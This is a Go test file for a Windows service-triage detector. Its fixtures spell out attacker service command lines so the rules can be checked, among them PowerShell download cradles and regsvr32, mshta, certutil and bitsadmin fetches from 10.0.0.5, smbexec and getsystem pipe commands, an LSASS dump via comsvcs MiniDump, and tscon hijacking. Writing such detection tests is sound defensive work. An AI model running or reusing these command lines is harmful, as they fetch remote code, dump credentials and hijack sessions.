package triage

import (
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/svcwatch/svcwatch/internal/inventory"
)

var t0 = time.Date(2026, 12, 4, 15, 0, 0, 0, time.UTC)

var (
	member = inventory.Host{Name: "srv01.corp.example", Reasons: []inventory.Reason{{Kind: inventory.ReasonGroup, Detail: "Tier0 Servers"}}}
	dc     = inventory.Host{Name: "dc01.corp.example", Reasons: []inventory.Reason{{Kind: inventory.ReasonDC}}}
)

const userSID = "S-1-5-21-1-2-3-1104"

// install builds an installed finding as Detect does: 7045 + inventory entry.
func install(name, path string, opts ...func(*inventory.Finding)) inventory.Finding {
	svc := inventory.Service{Name: name, DisplayName: name, ImagePath: path, StartMode: inventory.StartDemand,
		Account: "LocalSystem", Type: inventory.TypeOwnProcess}
	ev := inventory.Event{ID: inventory.EventServiceInstalled, RecordID: 42, Time: t0, SID: userSID,
		Data: []string{name, path, "user mode service", "demand start", "LocalSystem"}}
	f := inventory.Finding{ID: "x", Host: member, Kind: inventory.KindInstalled, At: t0, Service: &svc, Event: &ev}
	for _, o := range opts {
		o(&f)
	}
	return f
}

func driver(f *inventory.Finding) {
	f.Service.Type = inventory.TypeKernelDriver
	f.Service.Account = ""
	f.Event.Data[2] = "kernel mode driver"
}
func onDC(f *inventory.Finding)      { f.Host = dc }
func ephemeral(f *inventory.Finding) { f.Kind = inventory.KindEphemeral }
func silent(f *inventory.Finding)    { f.Kind = inventory.KindSilent; f.Event = nil }
func bySystem(f *inventory.Finding)  { f.Event.SID = "S-1-5-18" }
func account(a string) func(*inventory.Finding) {
	return func(f *inventory.Finding) { f.Service.Account = a }
}
func display(d string) func(*inventory.Finding) {
	return func(f *inventory.Finding) { f.Service.DisplayName = d; f.Event.Data[0] = d }
}
func installer(name string, privileged bool) func(*inventory.Finding) {
	return func(f *inventory.Finding) {
		f.Installer = &inventory.Account{SID: userSID, Name: name, Privileged: privileged}
	}
}

// modified builds a modified finding from the old and new service.
func modified(old, cur inventory.Service, changed ...string) inventory.Finding {
	return inventory.Finding{ID: "m", Host: member, Kind: inventory.KindModified, At: t0, Service: &cur, Previous: &old, Changed: changed}
}

func TestRules(t *testing.T) {
	spooler := inventory.Service{Name: "Spooler", DisplayName: "Print Spooler", ImagePath: `%SystemRoot%\System32\spoolsv.exe`,
		StartMode: inventory.StartAuto, Account: "LocalSystem", Type: inventory.TypeOwnProcess}
	hijacked := spooler
	hijacked.ImagePath = `C:\Users\Public\Libraries\svchost.exe`
	eventlog := inventory.Service{Name: "EventLog", DisplayName: "Windows Event Log", ImagePath: `%SystemRoot%\System32\svchost.exe -k LocalServiceNetworkRestricted -p`,
		StartMode: inventory.StartAuto, Account: `NT AUTHORITY\LocalService`, Type: inventory.TypeShareProcess}
	eventlogOff := eventlog
	eventlogOff.StartMode = inventory.StartDisabled
	bits := inventory.Service{Name: "BITS", ImagePath: `%SystemRoot%\System32\svchost.exe -k netsvcs -p`, StartMode: inventory.StartAuto, Type: inventory.TypeShareProcess}
	bitsDemand := bits
	bitsDemand.StartMode = inventory.StartDemand
	wuau := inventory.Service{Name: "wuauserv", ImagePath: `%systemroot%\system32\svchost.exe -k netsvcs -p`, ServiceDLL: `%systemroot%\system32\wuaueng.dll`, Type: inventory.TypeShareProcess}
	wuauDLL := wuau
	wuauDLL.ServiceDLL = `C:\ProgramData\x\wuaueng.dll`
	wuauAcct := wuau
	wuauAcct.Account = `CORP\svc_update`

	tests := []struct {
		name string
		f    inventory.Finding
		sev  inventory.Severity
		hits []string // must fire
		not  []string // must not fire
	}{
		// Kinds.
		{"benign install in Program Files", install("Zabbix Agent 2", `"C:\Program Files\Zabbix Agent 2\zabbix_agent2.exe" -c "C:\Program Files\Zabbix Agent 2\zabbix_agent2.conf"`, bySystem),
			inventory.SeverityLow, []string{"service-installed"}, []string{"system-folder-drop", "unquoted-path", "user-account", "context-dc"}},
		{"silent service", install("WinSvcUpdHelper", `"C:\Program Files\Contoso\helper.exe"`, silent), inventory.SeverityMedium, []string{"service-silent"}, []string{"service-installed"}},
		{"binpath hijack to a user folder", modified(spooler, hijacked, inventory.ChangeImagePath), inventory.SeverityHigh, []string{"image-path-changed", "user-writable-path"}, nil},
		{"Edge updated itself", modified(
			inventory.Service{Name: "MicrosoftEdgeElevationService", ImagePath: `"C:\Program Files (x86)\Microsoft\Edge\Application\118.0.2088.46\elevation_service.exe"`},
			inventory.Service{Name: "MicrosoftEdgeElevationService", ImagePath: `"C:\Program Files (x86)\Microsoft\Edge\Application\119.0.2151.44\elevation_service.exe"`},
			inventory.ChangeImagePath), inventory.SeverityLow, []string{"image-path-version-update"}, []string{"image-path-changed"}},
		{"Defender platform update", modified(
			inventory.Service{Name: "WinDefend", ImagePath: `"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.23100.2009-0\MsMpEng.exe"`},
			inventory.Service{Name: "WinDefend", ImagePath: `"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.23110.3-0\MsMpEng.exe"`},
			inventory.ChangeImagePath), inventory.SeverityLow, []string{"image-path-version-update"}, []string{"image-path-changed", "programdata-path"}},
		{"a version-looking folder outside the program trees is a change", modified(
			inventory.Service{Name: "agent", ImagePath: `C:\Users\bob\1.0\agent.exe`},
			inventory.Service{Name: "agent", ImagePath: `C:\Users\bob\2.0\agent.exe`},
			inventory.ChangeImagePath), inventory.SeverityHigh, []string{"image-path-changed", "user-writable-path"}, []string{"image-path-version-update"}},
		{"a different program in a version folder is a change", modified(
			inventory.Service{Name: "agent", ImagePath: `C:\Program Files\A\1.0\agent.exe`},
			inventory.Service{Name: "agent", ImagePath: `C:\Program Files\A\2.0\cmd.exe`},
			inventory.ChangeImagePath), inventory.SeverityHigh, []string{"image-path-changed", "not-a-service-program"}, []string{"image-path-version-update"}},
		{"ServiceDll swapped", modified(wuau, wuauDLL, inventory.ChangeServiceDLL), inventory.SeverityHigh, []string{"service-dll-changed", "programdata-path"}, nil},
		{"account changed", modified(wuau, wuauAcct, inventory.ChangeAccount), inventory.SeverityMedium, []string{"account-changed", "user-account"}, nil},
		{"routine start-mode toggle", modified(bits, bitsDemand, inventory.ChangeStartMode), inventory.SeverityInfo, []string{"start-mode-changed"}, []string{"defense-service-disabled"}},
		{"EventLog disabled", modified(eventlog, eventlogOff, inventory.ChangeStartMode), inventory.SeverityHigh, []string{"defense-service-disabled"}, nil},
		{"EventLog disabled, seen in a 7040 only", func() inventory.Finding {
			f := modified(eventlog, eventlog, inventory.ChangeStartMode)
			f.Event = &inventory.Event{ID: inventory.EventStartTypeChanged, Data: []string{"Windows Event Log", "auto start", "disabled", "EventLog"}}
			return f
		}(), inventory.SeverityHigh, []string{"defense-service-disabled"}, nil},
		{"start-mode change does not re-judge an existing remote-access tool", modified(
			inventory.Service{Name: "TeamViewer", ImagePath: `"C:\Program Files\TeamViewer\TeamViewer_Service.exe"`, StartMode: inventory.StartAuto},
			inventory.Service{Name: "TeamViewer", ImagePath: `"C:\Program Files\TeamViewer\TeamViewer_Service.exe"`, StartMode: inventory.StartDemand},
			inventory.ChangeStartMode), inventory.SeverityInfo, []string{"start-mode-changed"}, []string{"remote-access-tool"}},
		{"removed", inventory.Finding{Kind: inventory.KindRemoved, Host: member, Previous: &spooler, Service: &spooler}, inventory.SeverityInfo, []string{"service-removed"}, []string{"context-dc"}},
		{"removed from a DC stays info", inventory.Finding{Kind: inventory.KindRemoved, Host: dc, Previous: &spooler, Service: &spooler}, inventory.SeverityInfo, []string{"service-removed"}, []string{"context-dc"}},
		{"log cleared", inventory.Finding{Kind: inventory.KindTamper, Host: member, Event: &inventory.Event{ID: 104}}, inventory.SeverityHigh, []string{"log-cleared"}, []string{"context-dc"}},
		{"log cleared on a DC", inventory.Finding{Kind: inventory.KindTamper, Host: dc, Event: &inventory.Event{ID: 104}}, inventory.SeverityCritical, []string{"log-cleared", "context-dc"}, nil},
		{"records missing", inventory.Finding{Kind: inventory.KindTamper, Host: member}, inventory.SeverityHigh, []string{"log-records-missing"}, nil},
		{"unreachable", inventory.Finding{Kind: inventory.KindUnreachable, Host: dc}, inventory.SeverityMedium, []string{"host-unreachable"}, nil},
		{"recovered", inventory.Finding{Kind: inventory.KindRecovered, Host: dc}, inventory.SeverityLow, []string{"host-recovered"}, nil},
		{"scope: a DC", inventory.Finding{Kind: inventory.KindScope, Host: dc}, inventory.SeverityMedium, []string{"scope-dc"}, []string{"scope-change"}},
		{"scope: a member server", inventory.Finding{Kind: inventory.KindScope, Host: member}, inventory.SeverityLow, []string{"scope-change"}, []string{"scope-dc"}},
		{"allow-expired", inventory.Finding{Kind: inventory.KindAllowExpired, Host: member}, inventory.SeverityMedium, []string{"allow-expired"}, nil},

		// Remote execution.
		{"PsExec", install("PSEXESVC", `%SystemRoot%\PSEXESVC.exe`), inventory.SeverityHigh, []string{"psexec-clone"}, []string{"impacket-psexec"}},
		{"PsExec joined on display name", install("PSEXESVC", `%SystemRoot%\PSEXESVC.EXE`, display("PsExec")), inventory.SeverityHigh, []string{"psexec-clone"}, nil},
		{"PAExec", install("PAExec-1234-WKS01", `%SystemRoot%\PAExec-1234-WKS01.exe`), inventory.SeverityHigh, []string{"psexec-clone"}, nil},
		{"RemCom", install("RemComSvc", `%SystemRoot%\RemComSvc.exe`), inventory.SeverityHigh, []string{"psexec-clone"}, nil},
		{"CSExec", install("csexecsvc", `C:\Windows\csexecsvc.exe`), inventory.SeverityHigh, []string{"psexec-clone"}, nil},
		{"winexe", install("winexesvc", `winexesvc.exe`), inventory.SeverityHigh, []string{"psexec-clone"}, nil},
		{"Impacket psexec", install("vTCi", `%systemroot%\KqzVvRwb.exe`), inventory.SeverityHigh, []string{"impacket-psexec"}, nil},
		{"Metasploit psexec", install("qJxNrTwp", `%SYSTEMROOT%\hGfdsaqW.exe`), inventory.SeverityHigh, []string{"impacket-psexec"}, nil},
		{"not Impacket: binary named after the service", install("Sysmon64", `C:\Windows\Sysmon64.exe`), inventory.SeverityMedium, []string{"system-folder-drop"}, []string{"impacket-psexec"}},
		{"smbexec", install("BTOBTO", `%COMSPEC% /Q /c echo cd  ^> \\127.0.0.1\C$\__output 2^>^&1 > %TEMP%\execute.bat & %COMSPEC% /Q /c %TEMP%\execute.bat & del %TEMP%\execute.bat`, ephemeral),
			inventory.SeverityCritical, []string{"smbexec", "loopback-admin-share", "cmd-echo-redirect", "context-ephemeral"}, nil},
		{"getsystem pipe", install("outmgo", `cmd.exe /c echo outmgo > \\.\pipe\outmgo`), inventory.SeverityCritical, []string{"getsystem-pipe"}, nil},
		{"getsystem, echo first", install("tbbd05", `%COMSPEC% echo /c b6a1458f396 > \\.\pipe\334485`), inventory.SeverityCritical, []string{"getsystem-pipe"}, nil},
		{"getsystem rundll32", install("rtcpef", `rundll32.exe C:\Users\PEDRO~1.GUS\AppData\Local\Temp\rtcpef.dll,a /p:rtcpef`), inventory.SeverityCritical, []string{"getsystem-pipe", "lolbin", "user-writable-path"}, nil},
		{"Cobalt Strike ADMIN$", install("a1b2c3d", `\\127.0.0.1\ADMIN$\e4f5a6b.exe`), inventory.SeverityCritical, []string{"loopback-admin-share"}, []string{"network-binary"}},
		{"binary on a remote share", install("upd", `\\fileserver\deploy$\agent.exe`), inventory.SeverityHigh, []string{"network-binary"}, nil},

		// What it runs.
		{"Cobalt Strike PowerShell", install("f00b4r1", `%COMSPEC% /b /c start /b /min powershell -nop -w hidden -encodedcommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA`),
			inventory.SeverityHigh, []string{"powershell-encoded", "powershell-service", "cmd-shell"}, nil},
		{"Empire launcher -enc", install("Updater", `%COMSPEC% /C start /b C:\Windows\System32\WindowsPowershell\v1.0\powershell -noP -sta -w 1 -enc  SQBmACgAJABQAFMA`), inventory.SeverityHigh, []string{"powershell-encoded"}, nil},
		{"PowerShell -e abbreviation", install("svc1", `powershell.exe -e JABzAD0ATgBlAHcA`), inventory.SeverityHigh, []string{"powershell-encoded", "not-a-service-program"}, nil},
		{"PowerShell download cradle", install("svc2", `powershell.exe -c "IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.5/a')"`), inventory.SeverityHigh, []string{"powershell-encoded"}, nil},
		{"PowerShell script file", install("svc3", `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe -File C:\Scripts\job.ps1`), inventory.SeverityHigh, []string{"powershell-service", "not-a-service-program"}, []string{"powershell-encoded"}},
		{"cmd /c with redirection", install("svc4", `cmd.exe /c whoami > C:\out.txt`), inventory.SeverityHigh, []string{"cmd-shell", "cmd-echo-redirect"}, nil},
		{"sc create binPath= cmd.exe", install("spoolfool", `cmd.exe`), inventory.SeverityHigh, []string{"not-a-service-program", "no-folder"}, []string{"cmd-shell"}},
		{"calc.exe", install("remotesvc", `calc.exe`), inventory.SeverityHigh, []string{"not-a-service-program", "no-folder"}, nil},
		{"regsvr32 scriptlet", install("svc5", `C:\Windows\System32\regsvr32.exe /s /n /u /i:http://10.0.0.5/x.sct scrobj.dll`), inventory.SeverityHigh, []string{"lolbin"}, nil},
		{"mshta via cmd", install("svc6", `cmd.exe /c mshta http://10.0.0.5/x.hta`), inventory.SeverityHigh, []string{"lolbin", "cmd-shell"}, nil},
		{"certutil download", install("svc7", `C:\Windows\System32\certutil.exe -urlcache -f http://10.0.0.5/a.exe C:\a.exe`), inventory.SeverityHigh, []string{"lolbin"}, nil},
		{"bitsadmin", install("svc8", `bitsadmin /transfer j http://10.0.0.5/a.exe C:\a.exe`), inventory.SeverityHigh, []string{"lolbin"}, nil},
		{"tscon hijack", install("hijackservice", `cmd.exe /k tscon 2 /dest:rdp-tcp#5`), inventory.SeverityHigh, []string{"tscon-hijack", "cmd-shell"}, nil},
		{"LSASS dump with comsvcs", install("dmp", `cmd.exe /c rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\Windows\Temp\l.dmp full`), inventory.SeverityCritical, []string{"lsass-dump", "lolbin"}, nil},

		// Where it lives.
		{"Temp folder", install("WinSvcUpdHelper", `C:\Windows\Temp\wsuhelper.exe`), inventory.SeverityHigh, []string{"user-writable-path"}, nil},
		{"AppData", install("updater", `C:\Users\bob\AppData\Roaming\upd.exe`), inventory.SeverityHigh, []string{"user-writable-path"}, nil},
		{"ProgramData", install("agent", `C:\ProgramData\agent\agent.exe`), inventory.SeverityMedium, []string{"programdata-path"}, []string{"user-writable-path"}},
		{"bare file name", install("bad-task", `virusé.exe`), inventory.SeverityMedium, []string{"no-folder"}, nil},
		{"driver outside the system trees", install("fsdrv", `C:\Tools\fsdrv.sys`, driver), inventory.SeverityMedium, []string{"driver-outside-system-trees"}, nil},
		{"driver in System32\\drivers", install("e1i68x64", `\SystemRoot\System32\drivers\e1i68x64.sys`, driver, bySystem), inventory.SeverityLow, []string{"service-installed"}, []string{"driver-outside-system-trees", "system-folder-drop"}},
		{"plain binary dropped in System32 by a user", install("coreupdater", `C:\Windows\System32\coreupdater.exe`), inventory.SeverityMedium, []string{"system-folder-drop"}, nil},
		{"System32 binary installed by SYSTEM (a role)", install("DNS Server", `%systemroot%\system32\dns.exe`, bySystem), inventory.SeverityLow, nil, []string{"system-folder-drop"}},
		{"svchost service installed by a user", install("NewSvc", `%SystemRoot%\System32\svchost.exe -k netsvcs`), inventory.SeverityLow, nil, []string{"system-folder-drop"}},
		{"svchost.exe outside System32", install("WinHelper", `C:\ProgramData\Microsoft\svchost.exe -k netsvcs`), inventory.SeverityHigh, []string{"system-binary-masquerade", "programdata-path"}, nil},
		{"svchost.exe in System32 is not a masquerade", install("NewSvc2", `C:\Windows\System32\svchost.exe -k netsvcs`, bySystem), inventory.SeverityLow, nil, []string{"system-binary-masquerade"}},
		{"unquoted path with spaces", install("agent", `C:\Program Files\Contoso Agent\agent.exe -svc`), inventory.SeverityLow, []string{"unquoted-path"}, nil},

		// Who and what.
		{"mimidrv from a tools folder", install("mimikatz driver (mimidrv)", `C:\TOOLS\Mimikatz\mimidrv.sys`, driver), inventory.SeverityCritical, []string{"credential-dumper", "driver-outside-system-trees"}, nil},
		{"mimidrv as the lab installs it", install("mimidrv", `C:\Users\Public\mimidrv.sys`, driver, display("mimikatz driver (mimidrv)")), inventory.SeverityCritical, []string{"credential-dumper", "user-writable-path"}, nil},
		{"WCE", install("WCESERVICE", `D:\Service\test.exe`), inventory.SeverityCritical, []string{"credential-dumper"}, nil},
		{"gsecdump", install("gsecdump", `C:\Windows\gsecdump.exe`), inventory.SeverityCritical, []string{"credential-dumper"}, nil},
		{"KrbRelayUp", install("KrbSCM", `C:\Windows\Temp\KrbRelayUp.exe system`), inventory.SeverityCritical, []string{"offensive-tool"}, nil},
		{"RTCore64 (vulnerable driver)", install("RTCore64", `C:\Windows\System32\drivers\RTCore64.sys`, driver), inventory.SeverityHigh, []string{"vulnerable-driver"}, nil},
		{"Process Hacker driver", install("KProcessHacker3", `C:\Program Files\Process Hacker 2\kprocesshacker.sys`, driver), inventory.SeverityHigh, []string{"vulnerable-driver"}, nil},
		{"AnyDesk", install("AnyDesk", `"C:\Program Files (x86)\AnyDesk\AnyDesk.exe" --service`, bySystem), inventory.SeverityMedium, []string{"remote-access-tool"}, nil},
		{"ScreenConnect", install("ScreenConnect Client (3f2a)", `"C:\Program Files (x86)\ScreenConnect Client (3f2a)\ScreenConnect.ClientService.exe" "?e=Access&y=Guest"`), inventory.SeverityMedium, []string{"remote-access-tool"}, nil},
		{"not a remote-access tool: 'atera' inside a word", install("Lateral Tools", `"C:\Program Files\Lateral\lat.exe"`, bySystem), inventory.SeverityLow, nil, []string{"remote-access-tool"}},
		{"Npcap driver", install("Npcap Packet Driver (NPCAP)", `\SystemRoot\system32\DRIVERS\npcap.sys`, driver), inventory.SeverityLow, []string{"capture-or-tunnel-driver"}, nil},
		{"Npcap driver on a DC", install("Npcap Packet Driver (NPCAP)", `\SystemRoot\system32\DRIVERS\npcap.sys`, driver, onDC), inventory.SeverityMedium, []string{"capture-or-tunnel-driver", "context-dc"}, nil},
		{"base64 name", install("IyMjIyMjIyMjIyMjIyMjIyMjIyMjIyMjIyMjIyMjIyMjIyMjIw0KIyBUaGlzIFBvd2Vyc2", `c:\windows\system32\cmd.exe /c powershell -command "Get-Service "seg1" | select -Expand DisplayName |out-file -append tmp_payload.txt"`),
			inventory.SeverityHigh, []string{"base64-name", "cmd-echo-redirect", "powershell-service"}, nil},
		{"random mixed-case name", install("UWdKhYTIQWWJxHfx", `"C:\Program Files\X\x.exe"`, bySystem), inventory.SeverityLow, []string{"random-name"}, nil},
		{"ordinary names are not random", install("VBoxVideo", `system32\DRIVERS\VBoxVideo.sys`, driver, bySystem), inventory.SeverityLow, nil, []string{"random-name", "base64-name"}},
		{"user account from a user folder", install("syncsvc", `C:\Users\bob\sync\sync.exe`, account(`CORP\bob`)), inventory.SeverityHigh, []string{"user-account-user-path", "user-account"}, nil},
		{"user account from Program Files", install("sqlagent", `"C:\Program Files\SQL\agent.exe"`, account(`CORP\svc_sql`), bySystem), inventory.SeverityLow, []string{"user-account"}, []string{"user-account-user-path"}},
		{"gMSA is not a user account", install("sqlagent", `"C:\Program Files\SQL\agent.exe"`, account(`CORP\gmsa_sql$`), bySystem), inventory.SeverityLow, nil, []string{"user-account"}},

		// Context raises severity one level each.
		{"on a DC", install("Zabbix Agent 2", `"C:\Program Files\Zabbix Agent 2\zabbix_agent2.exe"`, bySystem, onDC), inventory.SeverityMedium, []string{"context-dc"}, nil},
		{"PsExec on a DC", install("PSEXESVC", `%SystemRoot%\PSEXESVC.exe`, onDC), inventory.SeverityCritical, []string{"psexec-clone", "context-dc"}, nil},
		{"ephemeral", install("thing", `"C:\Program Files\X\x.exe"`, ephemeral, bySystem), inventory.SeverityMedium, []string{"context-ephemeral"}, nil},
		{"installer outside tier 0", install("thing", `"C:\Program Files\X\x.exe"`, installer(`CORP\helpdesk1`, false)), inventory.SeverityMedium, []string{"context-installer-not-tier0"}, nil},
		{"installer in tier 0", install("thing", `"C:\Program Files\X\x.exe"`, installer(`CORP\da1`, true)), inventory.SeverityLow, nil, []string{"context-installer-not-tier0"}},
		{"unresolved installer does not raise", install("thing", `"C:\Program Files\X\x.exe"`, installer("", false)), inventory.SeverityLow, nil, []string{"context-installer-not-tier0"}},
		{"all context together caps at critical", install("PSEXESVC", `%SystemRoot%\PSEXESVC.exe`, onDC, ephemeral, installer(`CORP\helpdesk1`, false)),
			inventory.SeverityCritical, []string{"context-dc", "context-ephemeral", "context-installer-not-tier0"}, nil},
	}
	tr, err := New(Options{})
	if err != nil {
		t.Fatal(err)
	}
	fired := map[string]bool{}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := tr.Apply(t0, []inventory.Finding{tt.f})
			if len(got) != 1 {
				t.Fatalf("Apply returned %d findings", len(got))
			}
			f := got[0]
			ids := hitIDList(f)
			for _, id := range ids {
				fired[id] = true
			}
			if f.Severity != tt.sev {
				t.Errorf("severity %s, want %s (hits %v)", f.Severity, tt.sev, ids)
			}
			for _, h := range tt.hits {
				if !slices.Contains(ids, h) {
					t.Errorf("rule %s did not fire (hits %v)", h, ids)
				}
			}
			for _, h := range tt.not {
				if slices.Contains(ids, h) {
					t.Errorf("rule %s fired (hits %v)", h, ids)
				}
			}
			if len(f.Hits) == 0 {
				t.Error("no explanation")
			}
			if f.Suppressed {
				t.Error("suppressed without an allowlist")
			}
		})
	}
	// Context from the other findings of the same batch.
	batchTests := []struct {
		name  string
		with  []inventory.Finding
		raise bool
	}{
		{"log cleared within the hour on the same host", []inventory.Finding{{Kind: inventory.KindTamper, Host: member, At: t0.Add(-40 * time.Minute), Event: &inventory.Event{ID: 104}}}, true},
		{"log cleared on another host, or hours before", []inventory.Finding{{Kind: inventory.KindTamper, Host: dc, At: t0}, {Kind: inventory.KindTamper, Host: member, At: t0.Add(-3 * time.Hour)}}, false},
	}
	for _, tt := range batchTests {
		t.Run(tt.name, func(t *testing.T) {
			got := tr.Apply(t0, append([]inventory.Finding{install("thing", `"C:\Program Files\X\x.exe"`, bySystem)}, tt.with...))
			ids := hitIDList(got[0])
			for _, id := range ids {
				fired[id] = true
			}
			want := inventory.SeverityLow
			if tt.raise {
				want = inventory.SeverityMedium
			}
			if slices.Contains(ids, "context-log-tamper") != tt.raise || got[0].Severity != want {
				t.Errorf("severity %s, hits %v", got[0].Severity, ids)
			}
		})
	}
	// Every rule in the table is exercised by at least one case above.
	for _, r := range Rules() {
		if !fired[r.ID] {
			t.Errorf("rule %s is not covered by a test case", r.ID)
		}
	}
}

func TestRuleTable(t *testing.T) {
	seen := map[string]bool{}
	for _, r := range Rules() {
		if r.ID == "" || seen[r.ID] {
			t.Errorf("rule id %q empty or duplicated", r.ID)
		}
		seen[r.ID] = true
		if !strings.HasSuffix(r.Why, ".") || strings.Count(strings.TrimSuffix(r.Why, "."), ". ") > 0 {
			t.Errorf("rule %s: Why should be one sentence ending in a period: %q", r.ID, r.Why)
		}
		if r.Raise && r.Severity != inventory.SeverityInfo {
			t.Errorf("rule %s: context rules raise, they set no severity", r.ID)
		}
		if r.match == nil {
			t.Errorf("rule %s has no predicate", r.ID)
		}
		for _, f := range strings.Split(r.Follows, "; ") {
			if f != "" && strings.TrimSpace(f) != f {
				t.Errorf("rule %s: malformed Follows %q", r.ID, r.Follows)
			}
		}
	}
}

// TestRulesHostileInput: names and paths from hosts are untrusted; no rule
// may panic or take long on them.
func TestRulesHostileInput(t *testing.T) {
	long := strings.Repeat(`C:\Users\Public\<@U123>\..\A*b_c~d`+"`"+`\`, 3000)
	inputs := []string{"", `"`, `\\`, "\xff\xfe\x00", long, strings.Repeat("%", 5000), strings.Repeat(`\\?\`, 1000), "cmd.exe " + strings.Repeat("/c ", 10000)}
	tr, _ := New(Options{DefaultAllow: true})
	start := time.Now()
	for _, in := range inputs {
		for _, k := range []func(*inventory.Finding){bySystem, driver, ephemeral, silent, onDC} {
			f := install(in, in, k)
			f.Service.ServiceDLL = in
			out := tr.Apply(t0, []inventory.Finding{f})
			if len(out) != 1 {
				t.Fatal("lost a finding")
			}
		}
	}
	if d := time.Since(start); d > 5*time.Second {
		t.Errorf("hostile input took %s", d)
	}
}

func hitIDList(f inventory.Finding) []string {
	var ids []string
	for _, h := range f.Hits {
		ids = append(ids, h.ID)
	}
	return ids
}

func FuzzApply(f *testing.F) {
	for _, s := range []string{`cmd.exe /c echo a > \\.\pipe\a`, `%COMSPEC% /Q /c echo x`, `"C:\Program Files\A\a.exe" -x`, "\xff", `\\127.0.0.1\ADMIN$\x.exe`} {
		f.Add("svc", s, "LocalSystem", uint32(0x10))
	}
	tr, _ := New(Options{DefaultAllow: true})
	f.Fuzz(func(t *testing.T, name, path, acct string, typ uint32) {
		fd := install(name, path, account(acct))
		fd.Service.Type = typ
		out := tr.Apply(t0, []inventory.Finding{fd})
		if len(out) != 1 || len(out[0].Hits) == 0 {
			t.Fatalf("Apply(%q, %q) = %+v", name, path, out)
		}
		if out[0].Severity >= inventory.SeverityMedium && !explained(out[0]) {
			t.Fatalf("medium+ without an explanation: %+v", out[0])
		}
	})
}
